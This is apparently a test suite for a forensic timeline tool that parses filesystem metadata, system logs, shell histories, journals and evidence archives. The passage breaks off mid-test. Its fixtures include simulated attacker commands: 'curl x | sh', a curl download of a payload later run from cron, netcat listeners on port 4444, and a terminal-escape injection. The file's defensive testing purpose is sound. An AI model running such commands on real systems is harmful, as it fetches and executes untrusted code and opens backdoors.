#!/usr/bin/env bats
# irt timeline: source kinds, output formats, the comparison with the
# Sleuth Kit's mactime, bad input, memory budget and cases.

load helper

DATA="$IRT_SRC/tests/data/timeline"

setup() { setup_common; }
teardown() { teardown_common; }

# Every line of stdin is a JSON object (python3 checks it).
json_lines() {
	python3 -c '
import json, sys
n = 0
for line in sys.stdin:
    o = json.loads(line)
    assert isinstance(o, dict), line
    n += 1
print(n)
'
}

# A bodyfile of a small tree with fixed, unique, non-zero times.
make_tree_body() {
	mkdir -p "$TMP/tree/sub dir" "$TMP/tree/b"
	echo one >"$TMP/tree/a.txt"
	echo two >"$TMP/tree/sub dir/c, d.txt"
	echo three >"$TMP/tree/b/q\"uote"
	touch -d '2024-01-02 03:04:05' "$TMP/tree/a.txt"
	touch -d '2024-02-03 04:05:06' "$TMP/tree/sub dir/c, d.txt"
	touch -d '2023-05-06 07:08:09' "$TMP/tree/b/q\"uote"
	find "$TMP/tree" -printf '0|%p|%i|%M|%U|%G|%s|%A@|%T@|%C@|%T@\n' |
	    sed -E 's/\|([0-9]+)\.[0-9]+/|\1/g' >"$TMP/tree.body"
}

@test "timeline -h prints usage on stdout, a bad option exits 2" {
	run irt timeline -h
	[ "$status" -eq 0 ]
	assert_contains "$output" "usage: irt timeline"
	run irt timeline --bogus x
	[ "$status" -eq 2 ]
	run irt timeline --format nope "$DATA/simple.body"
	[ "$status" -eq 2 ]
	assert_contains "$output" "unknown format 'nope'"
	run irt timeline --memory 12 "$DATA/simple.body"
	[ "$status" -eq 2 ]
	run irt timeline nosuchkind:/etc/passwd
	[ "$status" -eq 1 ]
	assert_contains "$output" "unknown source kind 'nosuchkind'"
}

@test "no source outside a case is a usage error" {
	run irt timeline
	[ "$status" -eq 2 ]
	assert_contains "$output" "no source given"
}

@test "mactime-csv prints the same rows as mactime -b -d -y" {
	make_tree_body
	mactime -b "$TMP/tree.body" -d -y | sort >"$TMP/m.csv"
	irt timeline -q --format mactime-csv "bodyfile:$TMP/tree.body" |
	    sort >"$TMP/i.csv"
	[ -s "$TMP/m.csv" ]
	diff "$TMP/m.csv" "$TMP/i.csv"
}

@test "mactime text has mactime's layout" {
	make_tree_body
	TZ=UTC mactime -b "$TMP/tree.body" >"$TMP/m.txt"
	irt timeline -q --format mactime "bodyfile:$TMP/tree.body" >"$TMP/i.txt"
	# the date stands on the first line of each second, and the order
	# within a second may differ: compare the dates in order, and the
	# rest of the lines as sets
	diff <(cut -c1-24 "$TMP/m.txt" | grep -v '^ *$') \
	    <(cut -c1-24 "$TMP/i.txt" | grep -v '^ *$')
	diff <(cut -c25- "$TMP/m.txt" | sort) <(cut -c25- "$TMP/i.txt" | sort)
	[ -s "$TMP/m.txt" ]
}

@test "a real ext4 image: fls -r -m bodyfile read like mactime does" {
	mkdir -p "$TMP/root/etc" "$TMP/root/home/alice"
	echo "root:x:0:0::/root:/bin/sh" >"$TMP/root/etc/passwd"
	echo "curl x | sh" >"$TMP/root/home/alice/.bash_history"
	touch -d '2024-03-01 10:00:00' "$TMP/root/etc/passwd"
	mkfs.ext4 -q -F -d "$TMP/root" "$TMP/img" 4M
	fls -r -m / "$TMP/img" >"$TMP/img.body"
	grep -q '/etc/passwd' "$TMP/img.body"
	mactime -b "$TMP/img.body" -d -y | grep -v '^0000-00-00' |
	    sort >"$TMP/m.csv"
	irt timeline -q --format mactime-csv "bodyfile:$TMP/img.body" |
	    sort >"$TMP/i.csv"
	diff "$TMP/m.csv" "$TMP/i.csv"
	# the ext4 crtime is there too: a b column
	grep -q '\.\.\.b\|macb\|m\.cb\|\.acb' "$TMP/i.csv"
}

@test "where mactime is wrong: duplicate names keep their own size" {
	printf '%s\n' \
	    '0|/dup|10|r/rrw-r--r--|0|0|1|1700000000|1700000000|1700000000|0' \
	    '0|/dup|11|r/rrw-r--r--|0|0|99999|1700000000|1700000000|1700000000|0' \
	    >"$TMP/d.body"
	run mactime -b "$TMP/d.body" -d -y
	# mactime looks the size up by name: both rows say 99999
	[ "$(printf '%s\n' "$output" | grep -c '^2023.*,99999,')" -eq 2 ]
	run irt timeline -q --format mactime-csv "bodyfile:$TMP/d.body"
	[ "$status" -eq 0 ]
	assert_contains "$output" ',1,mac.,r/rrw-r--r--,0,0,10,"/dup"'
	assert_contains "$output" ',99999,mac.,r/rrw-r--r--,0,0,11,"/dup"'
}

@test "where mactime is wrong: names with '|' and negative times" {
	printf '%s\n' \
	    '0|/a|b|12|r/rrw-r--r--|0|0|5|1700000000|1700000000|1700000000|0' \
	    '0|/old|13|r/rrw-r--r--|0|0|6|-86400|-86400|-86400|0' \
	    >"$TMP/p.body"
	run mactime -b "$TMP/p.body" -d -y
	assert_not_contains "$output" '"/a|b"'
	assert_not_contains "$output" '1969-12-31'
	run irt timeline -q --format mactime-csv "bodyfile:$TMP/p.body"
	assert_contains "$output" '2023-11-14T22:13:20Z,5,mac.,r/rrw-r--r--,0,0,12,"/a|b"'
	assert_contains "$output" '1969-12-31T00:00:00Z,6,mac.,r/rrw-r--r--,0,0,13,"/old"'
}

@test "where mactime is wrong: within a second it sorts by string" {
	# inode 9 sorts after inode 10 as a string; the fractions say 9
	# came first
	printf '%s\n' \
	    '0|/first|9|r/rrw-r--r--|0|0|1|1700000000.1|1700000000.1|1700000000.1|0' \
	    '0|/second|10|r/rrw-r--r--|0|0|1|1700000000.9|1700000000.9|1700000000.9|0' \
	    >"$TMP/s.body"
	run mactime -b "$TMP/s.body" -d -y
	assert_contains "$(printf '%s\n' "$output" | sed -n 2p)" '/second'
	run irt timeline -q --format mactime-csv "bodyfile:$TMP/s.body"
	assert_contains "$(printf '%s\n' "$output" | sed -n 2p)" '/first'
	assert_contains "$(printf '%s\n' "$output" | sed -n 3p)" '/second'
}

@test "bodyfile: %XX, NTFS inodes, fractions, comments, bad lines warn" {
	run irt timeline --format jsonl "$DATA/simple.body"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"path":"/ntfs/file with|bar"'
	assert_contains "$output" '"inode":"8-128-2"'
	assert_contains "$output" '"time":"2026-01-01T00:05:50.999999999Z"'
	assert_contains "$output" 'simple.body:9: not a bodyfile line'
	assert_contains "$output" 'simple.body:11: invalid atime'
	assert_not_contains "$output" '"/zero"'
	assert_not_contains "$output" '1970-01-01'
	assert_contains "$output" "2 warnings"
}

@test "bodyfile: no MD5 column, \\| escapes, empty uid and gid, ls modes" {
	run irt timeline --format jsonl "$DATA/variants.body"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2026-01-01T00:00:00.250Z","ns":1767225600250000000,"source":"bodyfile:'"$DATA"'/variants.body","host":null,"type":"fs:stat","macb":"m...","path":"/etc/cron.d/x"'
	assert_contains "$output" '"md5":"0","inode":"3001","mode":"-rw-r--r--","uid":"0","gid":"0","size":"120"'
	assert_contains "$output" '"path":"/tmp/a|b\\c","message":"/tmp/a|b\\c","fields":{"md5":"0","inode":"3002","mode":"r/rrw-------","size":"5"'
	assert_contains "$output" '"path":"/var/tmp/.x|y"'
	assert_contains "$output" 'variants.body:5: not a bodyfile line (3 fields, want 10 or 11), skipped'
	assert_contains "$output" '5 events from 1 sources, 5 records written, 1 warnings'
	# written back as a bodyfile, the bars of names are %7C
	run irt timeline -q --format bodyfile "$DATA/variants.body"
	assert_contains "$output" '0|/tmp/a%7Cb\c|3002|'
}

@test "bodyfile output reads back to the same timeline" {
	irt timeline -q --format bodyfile "$DATA/simple.body" >"$TMP/out.body"
	irt timeline -q --format jsonl "$DATA/simple.body" |
	    sed 's/"source":"[^"]*"//' >"$TMP/a"
	irt timeline -q --format jsonl "bodyfile:$TMP/out.body" |
	    sed 's/"source":"[^"]*"//' >"$TMP/b"
	diff "$TMP/a" "$TMP/b"
	grep -q '^0|/etc/pipe%7Cname|132|' "$TMP/out.body"
}

@test "fs: walks a tree with nanosecond times, no symlink following" {
	mkdir -p "$TMP/w/d"
	echo x >"$TMP/w/d/f"
	touch -d '2024-01-02 03:04:05.123456789' "$TMP/w/d/f"
	ln -s / "$TMP/w/loop"
	run irt timeline --format jsonl "fs:$TMP/w"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2024-01-02T03:04:05.123456789Z"'
	assert_contains "$output" "\"path\":\"$TMP/w/loop\""
	assert_contains "$output" '"mode":"l/lrwxrwxrwx"'
	assert_not_contains "$output" "$TMP/w/loop/"
	# --format bodyfile: one line per file, like find prints
	run irt timeline -q --format bodyfile "$TMP/w"
	[ "$(printf '%s\n' "$output" | wc -l)" -eq 4 ]
	assert_contains "$output" "|$TMP/w/d/f|"
	assert_contains "$output" "|1704164645.123456789|"
}

@test "fs: --xdev stays on one file system" {
	[ "$(stat -c %d /dev)" != "$(stat -c %d /dev/pts)" ] ||
	    skip "/dev/pts is not a mount of its own"
	run irt timeline -q --format bodyfile fs:/dev
	[ "$status" -eq 0 ]
	assert_contains "$output" '|/dev/pts/ptmx|'
	run irt timeline -q --xdev --format bodyfile fs:/dev
	[ "$status" -eq 0 ]
	assert_contains "$output" '|/dev/pts|'
	assert_not_contains "$output" '|/dev/pts/ptmx|'
}

@test "syslog: year from the mtime going backwards, sshd fields" {
	cp "$DATA/auth.log" "$TMP/auth.log"
	touch -d '2026-03-01 00:00:00' "$TMP/auth.log"
	run irt timeline --format jsonl "$TMP/auth.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2025-12-31T23:59:58Z"'
	assert_contains "$output" '"time":"2026-01-02T08:15:00Z"'
	assert_contains "$output" '"type":"syslog:sshd"'
	assert_contains "$output" '"result":"accepted","method":"password","user":"root","src_ip":"203.0.113.7","src_port":"52211"'
	assert_contains "$output" '"result":"failed","method":"password","user":"admin","src_ip":"198.51.100.23"'
	assert_contains "$output" '"result":"invalid_user","user":"oracle"'
	assert_contains "$output" 'last message repeated 3 times'
	assert_contains "$output" 'auth.log:8: impossible date'
	assert_contains "$output" 'auth.log:9: not a syslog line'
	# an mtime in December: the rollover goes a year further back
	touch -d '2026-12-31 00:00:00' "$TMP/auth.log"
	run irt timeline -q --format jsonl "$TMP/auth.log"
	assert_contains "$output" '"time":"2025-12-31T23:59:58Z"'
	run irt timeline -q --year 2019 --format jsonl "$TMP/auth.log"
	assert_contains "$output" '"time":"2019-12-31T23:59:58Z"'
	assert_contains "$output" '"time":"2020-01-01T00:00:01Z"'
	# compressed: read twice (the rollovers first), the same years
	gzip -c "$DATA/auth.log" >"$TMP/auth.log.2.gz"
	bzip2 -c "$DATA/auth.log" >"$TMP/auth.log.3.bz2"
	xz -c "$DATA/auth.log" >"$TMP/auth.log.4.xz"
	touch -d '2026-03-01 00:00:00' "$TMP"/auth.log.*
	for f in "$TMP/auth.log.2.gz" "$TMP/auth.log.3.bz2" "$TMP/auth.log.4.xz"; do
		run irt timeline --format jsonl "$f"
		assert_contains "$output" '"time":"2025-12-31T23:59:58Z"'
		assert_contains "$output" '"time":"2026-01-02T08:15:00Z"'
		assert_contains "$output" "2 warnings"
	done
}

@test "syslog: RFC 5424 and rsyslog RFC 3339 lines" {
	run irt timeline --format jsonl "syslog:$DATA/modern.log"
	assert_contains "$output" '"time":"2026-03-04T04:06:07.123456Z"'
	assert_contains "$output" '"time":"2026-03-04T04:10:00.500Z"'
	assert_contains "$output" '"message":"'"'"'su root'"'"' failed for bob on /dev/pts/8"'
	assert_contains "$output" '"facility":"4","priority":"2"'
	assert_contains "$output" 'modern.log:3: impossible date'
}

@test "syslog: continuation lines, markers, fractions, sudo and cron" {
	run irt timeline --year 2026 --format jsonl "syslog:$DATA/forms.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2026-03-04T05:06:07.250Z"'
	assert_contains "$output" '"message":"kernel: BUG: unable to handle page fault\n  RIP: 0010:0xffffffffc0ffee00\n\tCall Trace:"'
	assert_contains "$output" '"message":"--- last message repeated 2 times ---","fields":{"hostname":"web01","repeated":"2"}'
	assert_contains "$output" '"type":"syslog:comment"'
	assert_contains "$output" '"type":"syslog:sudo"'
	assert_contains "$output" '"user":"alice","target_user":"root","tty":"pts/0","pwd":"/home/alice","command":"/usr/bin/curl -o /tmp/.x http://198.51.100.9/x"'
	assert_contains "$output" '"type":"syslog:cron"'
	assert_contains "$output" '"user":"www-data","command":"/tmp/.x >/dev/null 2>&1"'
	assert_contains "$output" '"time":"2026-03-04T04:06:12.500Z"'
	assert_contains "$output" '"repeated":"3","result":"failed","method":"password","user":"root","src_ip":"203.0.113.9"'
	assert_contains "$output" 'forms.log:10: not a syslog line, skipped'
	assert_contains "$output" '7 events from 1 sources, 7 records written, 1 warnings'
	# the sudo command and its fields in Timesketch's CSV
	run irt timeline -q --year 2026 --format timesketch-csv "syslog:$DATA/forms.log"
	assert_contains "$output" 'target_user'
	assert_contains "$output" '/usr/bin/curl -o /tmp/.x http://198.51.100.9/x'
}

@test "utmp: 384 and 400-byte records, corrupt record skipped by offset" {
	python3 - "$TMP" <<'EOF'
import socket, struct, sys
d = sys.argv[1]
def r384(t, pid, line, user, host, sec, usec, ip=b'\0' * 16):
    return struct.pack('<hxxi32s4s32s256shhiii16s20x', t, pid, line,
                       b'ts/0', user, host, 0, 0, 0, sec, usec, ip)
def r400(t, pid, line, user, host, sec, usec, ip=b'\0' * 16):
    return struct.pack('<hxxi32s4s32s256shhqqq16s20x4x', t, pid, line,
                       b'ts/0', user, host, 0, 0, 0, sec, usec, ip)
ip4 = socket.inet_aton('203.0.113.7') + b'\0' * 12
open(d + '/wtmp', 'wb').write(
    r384(2, 0, b'~', b'reboot', b'6.1.0', 1767225600, 0) +
    r384(7, 1234, b'pts/0', b'root', b'203.0.113.7', 1767225700, 500000, ip4) +
    b'\x63' * 384 +
    r384(8, 1234, b'pts/0', b'', b'', 1767229300, 0))
ip6 = socket.inet_pton(socket.AF_INET6, '2001:db8::5')
open(d + '/btmp.400', 'wb').write(
    r400(6, 5, b'ssh:notty', b'admin', b'2001:db8::5', 1767225800, 1, ip6) * 3)
EOF
	run irt timeline --format jsonl "$TMP/wtmp" "utmp:$TMP/btmp.400"
	[ "$status" -eq 0 ]
	assert_contains "$output" 'wtmp: corrupt utmp record at offset 768'
	assert_contains "$output" '"time":"2026-01-01T00:01:40.500Z"'
	assert_contains "$output" '"ut_type":"USER_PROCESS","user":"root","tty":"pts/0","pid":"1234"'
	assert_contains "$output" '"src_ip":"203.0.113.7"'
	assert_contains "$output" '"ut_type":"DEAD_PROCESS"'
	assert_contains "$output" '"user":"admin","tty":"ssh:notty"'
	assert_contains "$output" '"src_ip":"2001:db8::5"'
	[ "$(printf '%s\n' "$output" | grep -c '"user":"admin"')" -eq 3 ]
}

@test "bash and zsh histories" {
	run irt timeline --format jsonl "$DATA/bash_history" "zsh_history:$DATA/zsh_history"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"message":"cat <<X\nmulti line\nX"'
	assert_contains "$output" '"time":"2026-01-01T00:02:00Z","ns":1767225720000000000,"source":"bash_history:'
	# written before the first time stamp: no later than it
	assert_contains "$output" '"time":"2026-01-01T00:00:00Z","ns":1767225600000000000,"source":"bash_history:'"$DATA"'/bash_history","host":null,"type":"bash:history:before","path":"'"$DATA"'/bash_history","message":"ls -la"'
	assert_contains "$output" '"message":"for i in 1 2; do\necho $i\ndone"'
	assert_contains "$output" '"duration":"12"'
	assert_contains "$output" 'zsh_history:6: bad zsh history time'
	# "#0" is no time: never a 1970 event, but the time of the next
	# entry that has one, or the file's modification time
	printf '#0\nzero\n#1767225600\nok\n#0\nlast\n' >"$TMP/h0"
	touch -d '2026-02-01 00:00:00' "$TMP/h0"
	run irt timeline --format jsonl "bash_history:$TMP/h0"
	assert_not_contains "$output" '1970'
	assert_contains "$output" '"time":"2026-01-01T00:00:00Z","ns":1767225600000000000,"source":"bash_history:'"$TMP"'/h0","host":null,"type":"bash:history:before","path":"'"$TMP"'/h0","message":"zero"'
	assert_contains "$output" '"time":"2026-02-01T00:00:00Z","ns":1769904000000000000,"source":"bash_history:'"$TMP"'/h0","host":null,"type":"bash:history:before","path":"'"$TMP"'/h0","message":"last"'
	assert_contains "$output" '"type":"bash:history","path":"'"$TMP"'/h0","message":"ok"'
	assert_contains "$output" '3 events from 1 sources, 3 records written, 0 warnings'
}

@test "journal: export and json text, binary journals through sd-journal" {
	run irt timeline --format jsonl "journal:$DATA/journal.export" "journal:$DATA/journal.json"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2026-01-05T10:01:40.000001Z"'
	assert_contains "$output" '"ident":"sshd","pid":"4000","priority":"6","unit":"ssh.service"'
	assert_contains "$output" '"message":"hi\u0000\\xff"'
	assert_contains "$output" 'journal.json:3: not a journal JSON object'
	# a binary journal made from the export text by systemd-journal-remote:
	# a file, a directory, compressed, and inside an evidence archive
	mkdir -p "$TMP/jd" "$TMP/t" "$TMP/a/fs/var/log/journal/0123"
	/lib/systemd/systemd-journal-remote --output="$TMP/jd/system.journal" \
	    "$DATA/journal.export" 2>/dev/null
	gzip -c "$TMP/jd/system.journal" >"$TMP/old.journal.gz"
	cp "$TMP/jd/system.journal" "$TMP/a/fs/var/log/journal/0123/system.journal"
	tar -C "$TMP/a" -czf "$TMP/j.tar.gz" fs
	for src in "$TMP/jd/system.journal" "journal:$TMP/jd" \
	    "journal:$TMP/old.journal.gz" "$TMP/j.tar.gz"; do
		run irt timeline --tmpdir "$TMP/t" --format jsonl "$src"
		[ "$status" -eq 0 ]
		assert_contains "$output" '"time":"2026-01-05T10:01:40.000001Z"'
		assert_contains "$output" '"message":"Server listening on 0.0.0.0 port 22.","fields":{"hostname":"web01","ident":"sshd","pid":"4000","priority":"6","unit":"ssh.service"}'
		assert_contains "$output" '"message":"usb 1-1: new device"'
		assert_contains "$output" "0 warnings"
	done
	[ -z "$(ls "$TMP/t")" ]
	# a damaged file in a journal folder is named, the others read
	printf 'LPKSHHRH\0\0\0\0garbage' >"$TMP/jd/user-1000.journal"
	mkdir "$TMP/jd/0123456789abcdef0123456789abcdef"
	ln -s /dev/zero "$TMP/jd/0123456789abcdef0123456789abcdef/system.journal"
	run irt timeline --format jsonl "journal:$TMP/jd"
	[ "$status" -eq 0 ]
	assert_contains "$output" "warning: $TMP/jd/user-1000.journal: cannot read the journal:"
	assert_contains "$output" "warning: $TMP/jd/0123456789abcdef0123456789abcdef/system.journal: cannot open"
	assert_contains "$output" '"message":"usb 1-1: new device"'
	assert_contains "$output" "2 warnings"
	# garbage that claims to be a journal: a warning, no crash
	printf 'LPKSHHRH\0\0\0\0garbage' >"$TMP/bad.journal"
	run irt timeline --format jsonl "$TMP/bad.journal"
	[ "$status" -eq 0 ]
	assert_contains "$output" "bad.journal"
}

@test "audit records are grouped into one event by serial" {
	run irt timeline --format jsonl "$DATA/audit.log"
	[ "$status" -eq 0 ]
	[ "$(printf '%s\n' "$output" | grep -c '"type":"linux:audit"')" -eq 2 ]
	assert_contains "$output" '"audit_type":"SYSCALL,EXECVE,PROCTITLE","serial":"4242"'
	assert_contains "$output" '"exe":"/usr/bin/nc.openbsd","comm":"nc"'
	assert_contains "$output" '"time":"2026-01-05T10:00:00.123Z"'
	assert_contains "$output" 'audit.log:5: bad audit time'
}

@test "audit command lines are decoded from hex and escaped in the message" {
	run irt timeline --format jsonl "$DATA/audit.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"cmdline":"nc -lvp 4444","proctitle":"nc -lvp","key":"exec"'
	assert_contains "$output" '"message":"nc -lvp 4444 | type=SYSCALL msg=audit(1767607200.123:4242): '
	# an argument holding a terminal escape and a '|', in hex
	printf 'type=EXECVE msg=audit(1767607200.000:9): argc=2 a0="sh" a1=1B5D303B70776E65640761207C2062\n' >"$TMP/audit.log"
	run irt timeline --format l2tcsv "$TMP/audit.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"sh \e]0;pwned\x07a \x7c b | type=EXECVE msg=audit(1767607200.000:9): argc=2 a0=""sh"" a1=1B5D303B70776E65640761207C2062"'
	assert_contains "$output" 'cmdline: sh \x1b]0;pwned\x07a | b'
	[ "$(printf '%s' "$output" | tr -d -c '\033\007' | wc -c)" -eq 0 ]
}

@test "dpkg.log, apt history.log and access logs" {
	run irt timeline --format jsonl "$DATA/dpkg.log" "apt:$DATA/history.log" "$DATA/access.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"action":"install","package":"netcat-openbsd:amd64","version":"1.219-1"'
	assert_contains "$output" 'dpkg.log:5: impossible date 2026-02-30, line skipped'
	assert_contains "$output" '"commandline":"apt-get install -y netcat-openbsd","requested_by":"alice (1000)","action":"Install"'
	assert_contains "$output" '"action":"Remove","package":"nginx:amd64 (1.22.1-9)"'
	# 11:01 +0100 is 10:01 UTC
	assert_contains "$output" '"time":"2026-01-05T10:01:00Z"'
	assert_contains "$output" '"client":"203.0.113.7","user":"bob","http_method":"POST","url":"/upload.php","status":"201"'
	assert_contains "$output" '"user_agent":"curl/8.0"'
	assert_contains "$output" 'access.log:4: not an access log line'
}

@test "rotated logs compressed with gzip, bzip2 and xz; truncated gzip" {
	gzip -c "$DATA/dpkg.log" >"$TMP/dpkg.log.2.gz"
	bzip2 -c "$DATA/dpkg.log" >"$TMP/dpkg.log.3.bz2"
	xz -c "$DATA/dpkg.log" >"$TMP/dpkg.log.4.xz"
	run irt timeline -q --format jsonl "$TMP/dpkg.log.2.gz" "$TMP/dpkg.log.3.bz2" "$TMP/dpkg.log.4.xz"
	[ "$status" -eq 0 ]
	[ "$(printf '%s\n' "$output" | grep -c '"action":"install"')" -eq 3 ]
	# a long log cut in the middle of its gzip stream
	seq 1 20000 | awk '{ printf "2026-01-05 10:%02d:%02d install p%d:amd64 <none> 1.%d\n", $1 % 60, $1 % 59, $1 * 7919 % 100003, $1 }' |
	    gzip -c >"$TMP/full.gz"
	head -c 20000 "$TMP/full.gz" >"$TMP/dpkg.log.5.gz"
	run irt timeline --format jsonl "$TMP/dpkg.log.5.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "truncated gzip data"
	assert_contains "$output" '"action":"install"'
}

# The bytes a streaming decoder gives from a file cut short ($1: the
# file, $2: bz2 or lzma).
decoded() {
	python3 -c '
import bz2, lzma, sys
d = bz2.BZ2Decompressor() if sys.argv[2] == "bz2" else lzma.LZMADecompressor()
sys.stdout.buffer.write(d.decompress(open(sys.argv[1], "rb").read()))
' "$1" "$2"
}

@test "truncated xz and bzip2 logs keep every line decoded before the cut" {
	seq 1 200000 | awk '{ printf "2026-01-05 10:%02d:%02d install p%d:amd64 <none> 1.%d\n", $1 % 60, $1 % 59, $1, $1 }' >"$TMP/full"
	xz -c "$TMP/full" >"$TMP/full.xz"
	bzip2 -c "$TMP/full" >"$TMP/full.bz2"
	for z in xz bz2; do
		head -c $(($(stat -c %s "$TMP/full.$z") / 2)) "$TMP/full.$z" >"$TMP/dpkg.log.1.$z"
	done
	decoded "$TMP/dpkg.log.1.xz" lzma >"$TMP/plain.xz"
	decoded "$TMP/dpkg.log.1.bz2" bz2 >"$TMP/plain.bz2"
	for z in xz bz2; do
		[ "$(wc -l <"$TMP/plain.$z")" -gt 50000 ]
		irt timeline -q --format mactime-csv "dpkg:$TMP/plain.$z" >"$TMP/want"
		irt timeline -q --format mactime-csv "$TMP/dpkg.log.1.$z" >"$TMP/got"
		cmp "$TMP/want" "$TMP/got"
	done
	# (run would keep all the output: only the diagnostics are kept)
	run sh -c '"$1" timeline -o /dev/null "$2" "$3" 2>&1' sh "$IRT" \
	    "$TMP/dpkg.log.1.xz" "$TMP/dpkg.log.1.bz2"
	[ "$status" -eq 0 ]
	assert_contains "$output" "dpkg.log.1.xz: truncated xz data after"
	assert_contains "$output" "dpkg.log.1.bz2: truncated bzip2 data after"
	# a corrupt block: what came before it stays too
	cp "$TMP/full.xz" "$TMP/bad.xz"
	printf 'XXXXXXXX' | dd of="$TMP/bad.xz" bs=1 seek=300000 conv=notrunc 2>/dev/null
	irt timeline --format jsonl "dpkg:$TMP/bad.xz" >"$TMP/out" 2>"$TMP/err"
	grep -q "bad.xz: corrupt xz data after" "$TMP/err"
	grep -q '"package":"p1:amd64"' "$TMP/out"
}

@test "archive: bodyfile and logs of an irt evidence archive, not extracted" {
	mkdir -p "$TMP/a/fs/var/log/apt" "$TMP/a/irt" "$TMP/a/fs/home/bob" "$TMP/a/fs/etc"
	cp "$DATA/auth.log" "$TMP/a/fs/var/log/auth.log"
	gzip -c "$DATA/dpkg.log" >"$TMP/a/fs/var/log/dpkg.log.2.gz"
	bzip2 -c "$DATA/history.log" >"$TMP/a/fs/var/log/apt/history.log.1.bz2"
	cp "$DATA/bash_history" "$TMP/a/fs/home/bob/.bash_history"
	cp "$DATA/journal.export" "$TMP/a/fs/var/log/export.txt"
	echo "root:x:0:0" >"$TMP/a/fs/etc/passwd"
	cp "$DATA/simple.body" "$TMP/a/irt/bodyfile"
	tar -C "$TMP/a" -czf "$TMP/host.tar.gz" fs irt
	rm -rf "$TMP/a"
	run irt timeline --format jsonl "$TMP/host.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"archive:'"$TMP"'/host.tar.gz:irt/bodyfile"'
	assert_contains "$output" '"path":"/etc/passwd"'
	assert_contains "$output" '"type":"syslog:sshd","path":"/var/log/auth.log"'
	assert_contains "$output" "host.tar.gz:fs/var/log/auth.log:8: impossible date"
	assert_contains "$output" '"type":"dpkg:log"'
	assert_contains "$output" '"type":"apt:history"'
	assert_contains "$output" '"type":"bash:history"'
	assert_contains "$output" '"type":"systemd:journal"'
	assert_not_contains "$output" 'root:x:0:0'
	[ ! -e "$TMP/fs" ]
	# damaged archives: a warning, what was read stays
	head -c 100 "$TMP/host.tar.gz" >"$TMP/cut.tar.gz"
	run irt timeline --format jsonl "archive:$TMP/cut.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "warning"
	mkdir -p "$TMP/b/fs/var/log"
	cp "$DATA/dpkg.log" "$TMP/b/fs/var/log/dpkg.log"
	head -c 300000 /dev/urandom >"$TMP/b/fs/var/log/zz-noise"
	tar -C "$TMP/b" -czf "$TMP/big.tar.gz" fs
	head -c 200000 "$TMP/big.tar.gz" >"$TMP/cut2.tar.gz"
	run irt timeline --format jsonl "archive:$TMP/cut2.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "warning"
	assert_contains "$output" '"type":"dpkg:log"'
}

@test "archive: the stat pass's bodyfile read, a file both bodyfiles list given once" {
	mkdir -p "$TMP/a/irt" "$TMP/a/live"
	printf '0|/etc/passwd|2|r/rrw-r--r--|0|0|30|1700000001|1700000002|1700000003|0\n' >"$TMP/a/irt/bodyfile"
	printf '0|/etc/passwd|2|r/rrw-r--r--|0|0|30|1700000001|1700000002|1700000003|0\n0|/tmp/.x/implant|9|r/rrwxr-xr-x|0|0|4|1700000100|1700000100|1700000100|0\n' >"$TMP/a/live/statpass.body"
	# the stat pass first, as irt collect writes it, then the other way
	tar -C "$TMP/a" -czf "$TMP/sp.tar.gz" live irt
	tar -C "$TMP/a" -czf "$TMP/ps.tar.gz" irt live
	for f in sp ps; do
		run irt timeline --format mactime-csv "$TMP/$f.tar.gz"
		[ "$status" -eq 0 ]
		[ "$(grep -c ',"/etc/passwd"$' <<<"$output")" -eq 3 ]
		[ "$(grep -c ',"/tmp/.x/implant"$' <<<"$output")" -eq 1 ]
	done
	run irt timeline --format jsonl "$TMP/sp.tar.gz"
	assert_contains "$output" '"source":"archive:'"$TMP"'/sp.tar.gz:live/statpass.body","host":null,"type":"fs:stat","macb":"m...","path":"/etc/passwd"'
	assert_not_contains "$output" 'irt/bodyfile'
	# a real collection: the files of the root it did not store are in
	# its timeline through the stat pass, the stored ones once
	mkdir -p "$TMP/root/etc" "$TMP/root/opt/x"
	echo web01 >"$TMP/root/etc/hostname"
	echo 'root:x:0:0:root:/root:/bin/sh' >"$TMP/root/etc/passwd"
	echo payload >"$TMP/root/opt/x/dropper"
	touch -d '2021-03-04 05:06:07 UTC' "$TMP/root/opt/x/dropper"
	irt collect --root "$TMP/root" -o "$TMP/c.tar.gz" >/dev/null 2>&1
	tar -tzf "$TMP/c.tar.gz" | grep -qx live/statpass.body
	tar -tzf "$TMP/c.tar.gz" | grep -qx fs/etc/passwd
	run irt timeline --format mactime-csv "$TMP/c.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" '2021-03-04T05:06:07Z,8,ma..,r/rrw-r--r--,0,0,'
	run irt timeline --format jsonl "$TMP/c.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" 'c.tar.gz:live/statpass.body","host":"web01","type":"fs:stat","macb":"ma..","path":"/opt/x/dropper"'
	assert_contains "$output" 'c.tar.gz:live/statpass.body","host":"web01","type":"fs:stat","macb":"macb","path":"/etc/passwd"'
	# every file it stored is on the root's file system, in the stat pass
	assert_not_contains "$output" 'c.tar.gz:irt/bodyfile"'
}

@test "inside a case with no source: every evidence archive of the case" {
	make_case
	mkdir -p "$TMP/a/fs/var/log" "$TMP/case/evidence"
	cp "$DATA/dpkg.log" "$TMP/a/fs/var/log/dpkg.log"
	tar -C "$TMP/a" -czf "$TMP/case/evidence/web01.tar.gz" fs
	cp "$DATA/access.log" "$TMP/a/fs/var/log/access.log"
	rm "$TMP/a/fs/var/log/dpkg.log"
	tar -C "$TMP/a" -czf "$TMP/case/evidence/web02.tar.gz" fs
	run irt timeline -q --format jsonl
	[ "$status" -eq 0 ]
	assert_contains "$output" 'evidence/web01.tar.gz:fs/var/log/dpkg.log'
	assert_contains "$output" 'evidence/web02.tar.gz:fs/var/log/access.log'
}

@test "--host tags the sources that follow; several hosts merge" {
	run irt timeline -q --format jsonl --host web01 "$DATA/dpkg.log" --host db02 "syslog:$DATA/modern.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"host":"web01","type":"dpkg:log"'
